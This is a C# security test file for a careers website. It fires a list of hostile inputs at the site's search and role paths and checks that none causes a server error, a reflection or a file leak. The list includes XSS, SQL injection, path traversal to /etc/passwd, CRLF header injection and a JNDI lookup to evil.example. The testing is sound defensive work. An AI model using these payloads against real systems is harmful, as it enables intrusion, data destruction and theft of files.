using System.Net;
using CareerCluster.Web.Tests.Infrastructure;

namespace CareerCluster.Web.Tests.Security;

public sealed class HostileInputFactory : CareerClusterFactory
{
    // Every hostile search must reach the search code, not the rate limiter.
    protected override IEnumerable<KeyValuePair<string, string>> Settings => [new("RateLimiting:SearchPermitsPerMinute", "100000")];
}

/// <summary>Traversal, NUL, overlong, unicode, XSS, SQL and FTS syntax in paths and queries: never a 5xx, never reflected raw.</summary>
public sealed class HostileInputTests(HostileInputFactory factory, ITestOutputHelper output) : IClassFixture<HostileInputFactory>
{
    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "' OR 1=1--",
        "'; DROP TABLE Roles;--",
        "1' UNION SELECT sql FROM sqlite_master--",
        "\"",
        "\"\"\"",
        "*",
        "**",
        "NEAR(",
        "NEAR(nurse genetics, 2)",
        "nurse OR",
        "AND nurse",
        "NOT",
        "-nurse",
        "title:nurse",
        "^nurse",
        "(nurse",
        "nurse)",
        "[nurse]",
        "{nurse}",
        "nurse*",
        "\"nurse",
        "%",
        "_",
        "\\",
        ":",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2f",
        "\0",
        "nurse\0genetics",
        "💉🩺 nurse",
        "ñandú",
        "日本語",
        "\u202Eevil",
        "Ⓝⓤⓡⓢⓔ",
        new string('a', 5000),
        "nurse\r\nSet-Cookie: evil=1",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "@(1+1)",
        "&lt;script&gt;",
        "&#60;script&#62;",
        " ",
        "",
    ];

    private static readonly Func<string, string>[] Targets =
    [
        p => "/search?q=" + Uri.EscapeDataString(p),
        p => "/roles/" + Uri.EscapeDataString(p),
        p => "/pathways/" + Uri.EscapeDataString(p),
        p => "/clusters/" + Uri.EscapeDataString(p),
        p => "/compare?roles=" + Uri.EscapeDataString(p),
        p => "/compare?roles=nurses," + Uri.EscapeDataString(p) + ",genomics-healthcare-scientist",
        p => "/roles?region=" + Uri.EscapeDataString(p),
        p => "/roles?cluster=" + Uri.EscapeDataString(p) + "&pathway=" + Uri.EscapeDataString(p) + "&setting=" + Uri.EscapeDataString(p) + "&pay=" + Uri.EscapeDataString(p),
        p => "/?" + Uri.EscapeDataString(p) + "=" + Uri.EscapeDataString(p),
        p => "/faq?q=" + Uri.EscapeDataString(p),
    ];

    private static void AssertNotReflected(string url, string body)
    {
        Assert.DoesNotContain("<script>alert", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img src=x", body, StringComparison.OrdinalIgnoreCase);
        Assert.False(body.Contains("\"><script", StringComparison.Ordinal), url);
    }

    [Fact]
    public async Task Hostile_paths_and_queries_never_get_a_5xx_or_a_reflection()
    {
        var client = factory.CreateNoRedirectClient();
        var statuses = new Dictionary<int, int>();
        var count = 0;
        // Every payload against search and a role path, and against two of the other targets in turn.
        for (var i = 0; i < Payloads.Length; i++)
        {
            var payload = Payloads[i];
            Func<string, string>[] targets = [Targets[0], Targets[1], Targets[2 + (i % (Targets.Length - 2))], Targets[2 + ((i + 3) % (Targets.Length - 2))]];
            foreach (var target in targets)
            {
                var url = target(payload);
                HttpResponseMessage response;
                try
                {
                    response = await client.GetAsync(new Uri("http://localhost" + url));
                }
                catch (InvalidOperationException ex) when (ex.Message.Contains("null characters", StringComparison.Ordinal))
                {
                    // TestServer refuses a %00 in the path before the app, as Kestrel does with a 400.
                    statuses[400] = statuses.GetValueOrDefault(400) + 1;
                    count++;
                    continue;
                }

                var body = await response.Content.ReadAsStringAsync();
                var status = (int)response.StatusCode;
                statuses[status] = statuses.GetValueOrDefault(status) + 1;
                count++;
                Assert.True(status < 500, $"{url[..Math.Min(200, url.Length)]}: {status}");
                AssertNotReflected(url, body);
                Assert.False(response.Headers.Contains("Set-Cookie"), url);
                if (response.Headers.Location is { } location)
                {
                    Assert.DoesNotContain("<", location.OriginalString, StringComparison.Ordinal);
                    Assert.DoesNotContain("\n", location.OriginalString, StringComparison.Ordinal);
                }
            }
        }

        output.WriteLine($"{count} hostile requests: " + string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key} x{s.Value}")));
        Assert.True(count >= 100);
        Assert.DoesNotContain(429, statuses.Keys);
    }

    [Theory]
    [InlineData("/roles/../../etc/passwd")]
    [InlineData("/roles/..%2f..%2fetc%2fpasswd")]
    [InlineData("/roles/%2e%2e/%2e%2e/etc/passwd")]
    [InlineData("/../appsettings.json")]
    [InlineData("/css/../../appsettings.json")]
    [InlineData("/css/..%2f..%2fappsettings.json")]
    [InlineData("/roles/nurses%00.md")]
    [InlineData("/roles/nurses\0")]
    [InlineData("/roles/%ff%fe")]
    [InlineData("/roles/%c0%ae%c0%ae/")]
    [InlineData("/%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("/roles/<script>alert(1)</script>")]
    [InlineData("/ROLES/<SCRIPT>ALERT(1)</SCRIPT>/")]
    [InlineData("/web.config")]
    [InlineData("/content/README.md")]
    [InlineData("/data/careers.db")]
    public async Task Raw_hostile_paths_are_answered_safely(string rawPath)
    {
        var context = await factory.Server.SendAsync(c =>
        {
            c.Request.Method = "GET";
            c.Request.Path = rawPath.Contains('%', StringComparison.Ordinal) && !rawPath.Contains("%00", StringComparison.Ordinal)
                ? Microsoft.AspNetCore.Http.PathString.FromUriComponent(rawPath)
                : new Microsoft.AspNetCore.Http.PathString(rawPath);
        });

        Assert.True(context.Response.StatusCode < 500, $"{rawPath}: {context.Response.StatusCode}");
        using var reader = new StreamReader(context.Response.Body);
        var body = await reader.ReadToEndAsync();
        AssertNotReflected(rawPath, body);
        Assert.DoesNotContain("ConnectionStrings", body, StringComparison.Ordinal);
        Assert.DoesNotContain("SQLite format", body, StringComparison.Ordinal);
        Assert.DoesNotContain("root:x:0:0", body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Overlong_search_gets_a_friendly_400()
    {
        var client = factory.CreateNoRedirectClient();

        var page = await client.GetPageAsync("/search?q=" + new string('x', 201));

        Assert.Equal(HttpStatusCode.BadRequest, page.Response.StatusCode);
        Assert.Single(page.Document.QuerySelectorAll("h1"));
        Assert.NotNull(page.Document.QuerySelector("header.site-header"));
    }
}
